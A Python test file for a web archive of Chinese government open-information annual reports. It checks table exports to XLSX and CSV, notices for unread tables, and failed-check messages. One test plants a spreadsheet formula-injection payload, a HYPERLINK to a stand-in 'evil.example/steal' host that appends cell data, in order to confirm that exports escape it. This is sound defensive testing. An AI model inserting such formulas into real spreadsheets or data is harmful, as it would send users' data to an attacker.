"""The statutory table builder, gaps said in Chinese, and the form's words in checks and diffs.

Over the crawled sample portal and a real published report (平潭 2021, ../shared/real) whose 表四 cannot
be read: its cells are glued together in the published page, so no split is certain.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from archive.charts import agency_chart

from .conftest import EXPECTED, REAL, copy_archive, nianbao
from .test_datasette import get

PINGTAN = REAL / "docs" / "pingtan_2021.txt"
LUOJIANG_2023 = {e["agency"] for e in EXPECTED if "洛江区" in e["agency"] and e["year"] == 2023}


@pytest.fixture(scope="module")
def with_pingtan(crawled, tmp_path_factory):
    """The crawled archive plus a real report whose table four is not read."""
    data = tmp_path_factory.mktemp("gaps") / "archive"
    copy_archive(crawled["data"], data)
    nianbao("import", "--data", data, PINGTAN)
    (report_id,) = sqlite3.connect(data / "nianbao.db").execute(
        "SELECT r.id FROM reports r JOIN agencies a ON a.id = r.agency_id WHERE a.name LIKE '平潭%'").fetchone()
    return data, report_id


def blocks(sheet) -> dict[str, dict[str, list]]:
    """{agency heading: {row label: [values]}} read back from the printed shape: label = the rightmost label
    of the row among the three label columns, values = the seven applicant columns."""
    found, current = {}, None
    for row in sheet.iter_rows(min_row=3, values_only=True):
        if row[0] and " · " in str(row[0]) and len(row) > 1 and str(row[1] or "").startswith("http"):
            current = found.setdefault(str(row[0]).split(" · ")[0], {})
            continue
        if current is None or not any(isinstance(v, int) for v in row[3:10]):
            continue
        label = next(str(v) for v in reversed(row[:3]) if isinstance(v, str) and v.strip())
        current[label] = list(row[3:10])
    return found


def test_table_three_of_a_county_year_as_xlsx_has_every_report_and_row(crawled):
    response = get(crawled["data"], "/-/tables.xlsx?county=" + quote("洛江区") + "&year=2023&table=" + quote("三"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "表三"
    found = blocks(sheet)
    assert set(found) == LUOJIANG_2023  # the sample portal's own list of 洛江区's 2023 reports
    for agency, rows in found.items():
        assert len(rows) == 25, agency  # every keyed row of the 2021 template's 表三
        assert "（七）总计" in rows and "四、结转下年度继续办理" in rows
        for label, values in rows.items():
            assert values[6] == sum(values[:6]), (agency, label)  # each row adds up across the applicants
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert any(r.startswith("D") for r in merged)  # 申请人情况 spans its columns, as printed


def test_a_real_reports_figures_come_out_of_the_builder(crawled):
    """洛江区科学技术局 2020 is seed 003, a real report: 规范性文件 0/0/2 and 其他对外管理服务事项 15/0/0."""
    response = get(crawled["data"], "/-/tables.csv?county=" + quote("洛江区") + "&year=2020&table=" + quote("二"))
    text = response.content.decode("utf-8-sig")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["发布机关 agency"] == "泉州市洛江区科学技术局"]
    by_row = {r["行键 row_key"]: r for r in rows}
    normative = by_row["normative_documents"]
    assert (normative["本年新制作数量 new_made"], normative["本年新公开数量 new_published"],
            normative["对外公开总数量 total_published"]) == ("0", "0", "2")
    assert by_row["other_services"]["上一年项目数量 prev_items"] == "15"
    assert by_row["other_services"]["行 row"] == "其他对外管理服务事项"


def test_summed_table_adds_every_report_of_a_template(crawled):
    one = get(crawled["data"], "/-/tables.csv?year=2023&table=" + quote("三")).content.decode("utf-8-sig")
    each = [r for r in csv.DictReader(io.StringIO(one)) if r["行键 row_key"] == "new_received"]
    summed = get(crawled["data"], "/-/tables.csv?year=2023&sum=1&table=" + quote("三")).content.decode("utf-8-sig")
    total = [r for r in csv.DictReader(io.StringIO(summed)) if r["行键 row_key"] == "new_received"]
    assert len(total) == len({r["表格模板 template"] for r in each}) == 1
    assert int(total[0]["总计 total"]) == sum(int(r["总计 total"]) for r in each)
    assert total[0]["发布机关 agency"].startswith(f"合计 {len(each)} 份年报")


def test_builder_page_is_linked_and_names_its_reports(crawled):
    page = get(crawled["data"], "/-/tables?county=" + quote("洛江区") + "&year=2023")
    assert page.status_code == 200
    assert page.text.count('class="table-block"') == len(LUOJIANG_2023)
    assert "/-/tables.xlsx?" in page.text and "/-/tables.csv?" in page.text
    region = get(crawled["data"], "/-/region?province=" + quote("福建省") + "&city=" + quote("泉州市")
                 + "&county=" + quote("洛江区"))
    assert 'class="tables-link"' in region.text
    figures = get(crawled["data"], "/nianbao/report_figures?year=2023")
    assert 'class="tables-link" href="/-/tables?year=2023&amp;table=' in figures.text
    agency = get(crawled["data"], "/-/agency/1").text
    assert 'class="tables-link" href="/-/tables?agency=1&amp;table=' in agency
    search = get(crawled["data"], "/-/search?q=" + quote("洛江区") + "&year=2023").text
    link = search.split('class="tables-link" href="')[1].split('"')[0].replace("&amp;", "&")
    found = get(crawled["data"], link).text  # the search's own reports, 表三 each
    assert found.count('class="table-block"') == len(LUOJIANG_2023)


def test_a_table_not_read_is_said_beside_it_in_chinese(with_pingtan):
    data, report_id = with_pingtan
    page = get(data, f"/-/report/{report_id}").text
    four = page[page.index('id="table-review_litigation"'):]
    notice = four[:four.index('<table class="form">')]
    assert "表四未读出" in notice and "数字粘连在一起（10203120001200000）" in notice
    assert 'class="gap-original" href="/-/blob/' in notice
    three = page[page.index('id="table-applications"'):page.index('id="table-review_litigation"')]
    assert "表三只读出 21 / 25 行" in three
    # the XLSX says so too, in the block
    xlsx = get(data, f"/-/tables.xlsx?report={report_id}&table=" + quote("四")).content
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True) for c in row if c]
    assert any("表四未读出" in str(c) for c in cells)


def test_incomplete_reports_are_counted_on_agency_and_region_pages(with_pingtan, tmp_path):
    data, report_id = with_pingtan
    db = sqlite3.connect(data / "nianbao.db")
    agency_id, = db.execute("SELECT agency_id FROM reports WHERE id = ?", [report_id]).fetchone()
    page = get(data, f"/-/agency/{agency_id}").text
    assert "1 份年报中 1 份有表格没有读全" in page and 'class="not-assessable-count">1<' in page
    # the contract: a version stored as partial (h26geo) is counted as such
    copy = tmp_path / "archive"
    shutil.copytree(data, copy)
    conn = sqlite3.connect(copy / "nianbao.db")
    with conn:
        conn.execute("UPDATE versions SET extract_status = 'partial' WHERE id = "
                     "(SELECT source_version_id FROM reports WHERE id = ?)", [report_id])
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # the site opens the file immutable: no WAL read
    conn.close()
    page = get(copy, f"/-/agency/{agency_id}").text
    assert 'class="partial-count">1<' in page and "部分读出" in page


def test_failed_checks_and_cell_diffs_speak_the_forms_words(crawled):
    """洛江区人民政府 2022: the sample portal adds 1 to its 办理结果总计 (自然人 and 总计) on purpose."""
    db = sqlite3.connect(crawled["data"] / "nianbao.db")
    (report_id,) = db.execute("SELECT r.id FROM reports r JOIN agencies a ON a.id = r.agency_id "
                              "WHERE a.name = '泉州市洛江区人民政府' AND r.year = 2022").fetchone()
    page = get(crawled["data"], f"/-/report/{report_id}").text
    assert "本年新收+上年结转=办理结果总计+结转下年度（自然人）：应为45，实为46" in page
    assert "new_received + carried_over" not in page and "not_assessable" not in page.replace('check-not_assessable', '')
    outlined = {cell.split('data-key="')[1].split('"')[0] for cell in page.split("<td")[1:] if " suspect" in cell.split(">")[0]}
    assert outlined == {"applications.total_processed.natural_person", "applications.total_processed.total"}


def test_the_chart_marks_missing_years():
    history = [{"year": 2019, "applications_received": 5, "granted": 3, "total_processed": 5},
               {"year": 2020, "applications_received": None, "granted": None, "total_processed": None},
               {"year": 2022, "applications_received": 7, "granted": 2, "total_processed": 7}]
    svg = agency_chart(history)
    years = [part.split(">")[1].split("<")[0] for part in svg.split('<text class="year"')[1:]]
    assert years == ["2019", "2020", "2021", "2022"]
    assert svg.count('class="missing-year"') == 2 and "未读出" in svg and "无年报" in svg


def test_excel_csv_heads_columns_chinese_first(crawled):
    text = get(crawled["data"], "/nianbao/report_figures.csv?_bom=1&_size=max").content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert "本年新收申请 applications_received" in header and "报告年度 year" in header
    plain = get(crawled["data"], "/nianbao/report_figures.csv?_size=max").text
    assert next(csv.reader(io.StringIO(plain)))[0] in ("report_id", "rowid")  # machines keep the keys
    assert json.loads(json.dumps(header))  # plain strings


def test_people_read_words_not_keys(crawled):
    """Canned queries have a human title, mobile cards Chinese labels, review outcomes the form's names."""
    page = get(crawled["data"], "/nianbao/most_requests?year=2021").text
    title = page.split("<title>")[1].split("</title>")[0]
    assert "各机关某年度新收申请对比" in title and "select" not in title.lower()
    review = get(crawled["data"], "/nianbao/review_by_region").text
    assert 'title="litigation_after_review">复议后起诉<' in review and 'title="upheld">结果维持<' in review
    figures = get(crawled["data"], "/nianbao/report_figures").text
    assert 'content: "本年新收申请 applications_received"' in figures  # the card label on a phone
    failing = get(crawled["data"], "/nianbao/failing_checks").text
    assert "本年新收+上年结转=办理结果总计+结转下年度（自然人）：应为45，实为46" in failing
    assert 'title="natural_person">自然人<' in failing
    assert 'title="not_assessable">无法校验<' in figures or "not_assessable" not in figures.split("<tbody>")[1]


def test_home_explains_what_a_report_is_and_where_to_start(crawled):
    page = get(crawled["data"], "/").text
    intro = page[page.index('<section class="intro"'):page.index("</section>", page.index('<section class="intro"'))]
    for words in ("表二 主动公开", "表三 依申请公开", "表四 复议与诉讼", "open government information"):
        assert words in intro
    start = intro.split('class="start-tables" href="')[1].split('"')[0].replace("&amp;", "&")
    built = get(crawled["data"], start).text
    assert built.count('class="table-block"') >= 2  # a worked example that shows something


def test_a_crawled_title_that_looks_like_a_formula_stays_text(crawled, tmp_path):
    data = tmp_path / "archive"
    copy_archive(crawled["data"], data)
    conn = sqlite3.connect(data / "nianbao.db")
    hostile = '=HYPERLINK("http://evil.example/steal?"&A2,"点击")'
    with conn:
        conn.execute("UPDATE agencies SET name = ? WHERE name = '泉州市洛江区教育局'", [hostile])
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    query = "county=" + quote("洛江区") + "&year=2023&table=" + quote("三")
    sheet = load_workbook(io.BytesIO(get(data, "/-/tables.xlsx?" + query).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "evil.example" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    text = get(data, "/-/tables.csv?" + query).content.decode("utf-8-sig")
    agencies = {r["发布机关 agency"] for r in csv.DictReader(io.StringIO(text))}
    assert "'" + hostile in agencies and hostile not in agencies


def test_a_revisions_cell_diff_names_the_cell_as_the_form_does(crawled, tmp_path):
    """A real revision (seed 003, 规范性文件 对外公开总数量 3 → 2): the diff says which cell in the form's words."""
    from .test_browser import revise

    data = tmp_path / "archive"
    copy_archive(crawled["data"], data)
    revise(data, tmp_path)
    (report_id,) = sqlite3.connect(data / "nianbao.db").execute(
        "SELECT r.id FROM reports r JOIN agencies a ON a.id = r.agency_id "
        "WHERE a.name = '泉州市洛江区科学技术局' AND r.year = 2020").fetchone()
    page = get(data, f"/-/report/{report_id}").text
    diff = page[page.index('<table class="data cell-diff">'):]
    diff = diff[:diff.index("</table>")]
    assert "表二 规范性文件 · 对外公开总数量" in diff
    assert ">active_disclosure.normative_documents.total_published<" not in diff  # the key only in the title


def test_gaps_follow_the_partial_contract():
    """A record stored as partial carries coverage per table (COMMON.md); the notice says what it counts."""
    from archive.gaps import gaps

    record = {"template": "2021", "applications": {"new_received": {"total": 3}},
              "review_litigation": {"review": {"total": 0}, "litigation_direct": {"total": 0},
                                    "litigation_after_review": {"total": 0}},
              "active_disclosure": {"regulations": {"made": 1}},
              "coverage": {"applications": {"rows_read": 20, "rows_expected": 25},
                           "active_disclosure": {"rows_read": 6, "rows_expected": 6}},
              "warnings": ["applications.granted: 5 cells for 7 columns; row not read"]}
    found = gaps(record)
    assert set(found) == {"applications"}  # 表二 is whole by its coverage, 表四 by its rows
    assert found["applications"]["summary"].startswith("表三只读出 20 / 25 行")
    assert found["applications"]["reasons"] == ["（一）予以公开：读出的格数（5）与表格列数（7）不符"]


def test_a_build_past_its_bound_says_where_it_stops(crawled, monkeypatch):
    from archive import statutory

    monkeypatch.setattr(statutory, "MAX_REPORTS", 3)
    page = get(crawled["data"], "/-/tables?year=2023").text
    total = sum(1 for e in EXPECTED if e["year"] == 2023)
    assert f"共 {total} 份年报，只列出前 3 份" in page and page.count('class="table-block"') == 3
    text = get(crawled["data"], "/-/tables.csv?year=2023").content.decode("utf-8-sig")
    assert text.rstrip().splitlines()[-1].startswith(f",共 {total} 份年报，只列出前 3 份")
    sheet = load_workbook(io.BytesIO(get(crawled["data"], "/-/tables.xlsx?year=2023").content)).active
    assert sheet["A2"].value.startswith(f"共 {total} 份年报")
